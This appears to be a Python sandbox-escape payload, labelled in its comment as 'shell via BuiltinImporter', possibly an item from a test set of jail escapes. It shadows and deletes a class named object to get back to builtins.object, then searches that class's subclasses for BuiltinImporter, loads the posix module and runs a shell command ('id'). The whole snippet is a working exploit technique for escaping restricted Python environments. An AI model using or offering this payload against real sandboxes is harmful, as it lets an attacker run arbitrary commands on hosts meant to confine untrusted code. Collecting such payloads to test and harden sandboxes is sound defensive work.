# HARM: shell via BuiltinImporter | TRICK: own class named object, then `del object` -> falls back to builtins.object
class object: pass
del object
for k in object.__subclasses__():
    if k.__name__ == 'BuiltinImporter':
        k.load_module('posix').system('id')
